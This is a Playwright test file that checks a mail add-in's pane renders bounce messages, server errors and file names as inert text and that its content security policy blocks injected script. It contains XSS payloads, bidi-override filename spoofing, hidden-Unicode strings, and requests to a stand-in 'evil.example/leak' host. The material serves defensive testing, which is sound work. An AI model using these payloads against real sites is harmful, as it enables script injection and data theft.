import type { Page } from 'playwright-core';
import {
  openInChromium,
  startBuiltHelper,
  type PaneInBrowser,
  type RunningHelper,
} from '../../tools/pane-in-browser.ts';
import { needs } from '../needs.ts';
import { msgFile } from '../reading/msg-file.ts';

/*
 * Nothing that a bounce, a file or a server says becomes active on the screen: no markup, no script, no character that
 * hides or turns text, no link, no request. Tried in a real browser, with the real pane from the real helper.
 */

/** What would not be seen, or would turn what is seen; line ends, and what emoji are made of, are none of them. */
const HIDDEN = /(?![\n\t])[\p{Cc}\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\u{e0000}-\u{e0fff}]/u;
const MARKUP = [
  '<img src=x onerror="window.hit=1">',
  '<svg onload="window.hit=1">',
  '<script>window.hit=1</script>',
  '<iframe src="javascript:parent.hit=1"></iframe>',
  '<a href="javascript:window.hit=1">click</a>',
  '"><b onmouseover="window.hit=1">x</b>',
  '{{constructor.constructor("window.hit=1")()}}',
  '${window.hit=1}',
  'javascript:window.hit=1',
  '[x](javascript:window.hit=1)',
  '\u001b[2J\u001b]0;x\u0007 550 \u0000 \u009f',
  '\u202emoc.elpmaxe\u202c \u2066x\u2069 \u200b\ufeff\u2028 \u{e0041}\u{e0042}',
];

needs('chromium')('in a real browser', () => {
  jest.setTimeout(60_000);
  let helper: RunningHelper;
  let pane: PaneInBrowser;
  let page: Page;
  const dialogs: string[] = [];

  beforeAll(async () => {
    helper = await startBuiltHelper();
    pane = await openInChromium(helper.address, {
      viewport: { width: 320, height: 700 },
      prepare: (one) => {
        one.on('dialog', (dialog) => {
          dialogs.push(dialog.message());
          void dialog.dismiss();
        });
        return Promise.resolve();
      },
    });
    page = pane.page;
    await page.getByRole('textbox').waitFor();
  });
  afterAll(async () => {
    await pane.close();
    await helper.close();
  });

  // The one frame that is left out is of Office.js, for Microsoft's telemetry; the page's policy keeps it empty.
  async function nothingActive(): Promise<void> {
    const seen = await page.evaluate(() => ({
      hit: 'hit' in globalThis,
      text: document.body.innerText,
      marked: document.querySelectorAll(
        '#root img[src=x], iframe:not([src^="https://telemetryservice.firstpartyapps.oaspapps.com/"]), a[href^="javascript"], [onerror], [onload], [onmouseover]',
      ).length,
    }));
    expect(seen).toMatchObject({ hit: false, marked: 0 });
    expect(HIDDEN.exec(seen.text)).toBeNull();
    expect(dialogs).toEqual([]);
    const own = new URL(helper.address).origin;
    expect(pane.requests.filter((one) => !one.startsWith(own) && !one.startsWith('data:'))).toEqual([]);
  }

  test.each(MARKUP)('in a server’s words %j is text', async (said) => {
    const text = `Task 'anna@example.test - Sending' reported error (0x800CCC6F): 'The server responded: 550 5.7.1 ${said} end'`;
    await page.getByRole('textbox').fill(text);
    await page.getByText('0x800CCC6F').first().waitFor();
    await nothingActive();
  });

  test.each(MARKUP)('in a bounce’s fields %j is text', async (said) => {
    const bounce = [
      'From: MAILER-DAEMON@mail.example.org',
      'Message-ID: <a@b.example>',
      'MIME-Version: 1.0',
      'Content-Type: multipart/report; report-type=delivery-status; boundary=b',
      '',
      '--b',
      'Content-Type: text/html; charset=utf-8',
      '',
      `<p>It failed: ${said}</p>`,
      '--b',
      'Content-Type: message/delivery-status',
      '',
      'Reporting-MTA: dns; mail.example.org',
      '',
      `Final-Recipient: rfc822; bob@example.net`,
      'Action: failed',
      'Status: 5.1.1',
      `Remote-MTA: dns; mx.example.net`,
      `Diagnostic-Code: smtp; 550 5.1.1 ${said}`,
      '--b--',
    ].join('\r\n');
    await page.getByRole('textbox').fill(bounce);
    await page.getByText('bob@example.net', { exact: true }).waitFor();
    await nothingActive();
  });

  test('a file’s name is text', async () => {
    const name = '<img src=x onerror="window.hit=1">\u202egsm.exe';
    const dropped = await page.evaluateHandle(
      ([title, content]) => {
        const transfer = new DataTransfer();
        transfer.items.add(new File([new Uint8Array(content)], title));
        return transfer;
      },
      [name, [...msgFile({ values: { 0x1a: 'IPM.Note', 0x1000: '550 5.1.1 no' } })]] as const,
    );
    await page.dispatchEvent('body', 'drop', { dataTransfer: dropped });
    await page.getByText('onerror', { exact: false }).first().waitFor();
    await nothingActive();
  });

  test('the page’s own policy runs no script that was slipped in, and sends nothing elsewhere', async () => {
    const violated = await page.evaluate(async () => {
      const seen: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
      const script = document.createElement('script');
      script.textContent = 'window.hit = 1';
      document.body.append(script);
      const image = document.createElement('img');
      image.src = 'https://evil.example/leak';
      document.body.append(image);
      document.body.insertAdjacentHTML('beforeend', '<p onclick="window.hit=1" id="slipped">x</p>');
      document.getElementById('slipped')?.click();
      await fetch('https://evil.example/leak').catch(() => {});
      try {
        new WebSocket('wss://evil.example/leak');
      } catch {
        // Refused at once.
      }
      // Evaluated by the page itself; what a test evaluates at once stands above the policy.
      setTimeout('window.hit = 1');
      await new Promise((resolve) => setTimeout(resolve, 300));
      document.getElementById('slipped')?.remove();
      script.remove();
      image.remove();
      return { seen, hit: 'hit' in globalThis };
    });
    expect(violated.hit).toBe(false);
    expect(violated.seen).toEqual(
      expect.arrayContaining(['script-src-elem', 'script-src-attr', 'img-src', 'connect-src']),
    );
  });

  test('another site’s page opens no channel and reads nothing of the helper, in a browser too', async () => {
    const own = new URL(helper.address).origin;
    const { page: other, close } = await openInChromium('data:text/html,<p>evil</p>', {
      args: ['--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests'],
    });
    const got = await other.evaluate(async (address) => {
      const read = async (path: string, init?: RequestInit) =>
        fetch(`${address}${path}`, init).then(
          async (answer) => `${answer.type} ${await answer.text()}`,
          () => 'nothing',
        );
      const socket = await new Promise<string>((resolve) => {
        const channel = new WebSocket(`${address.replace('https', 'wss')}/ws`);
        channel.onopen = () => resolve('open');
        channel.onerror = () => resolve('nothing');
      });
      return [
        socket,
        await read('/health'),
        await read('/health', { mode: 'no-cors' }),
        await read('/hello', { method: 'POST', headers: { 'X-Outbox-Doctor': '1' } }),
        await read('/taskpane.html'),
      ];
    }, own);
    await close();
    expect(got).toEqual(['nothing', 'nothing', expect.stringMatching(/^(?:nothing|opaque )$/), 'nothing', 'nothing']);
  });
});
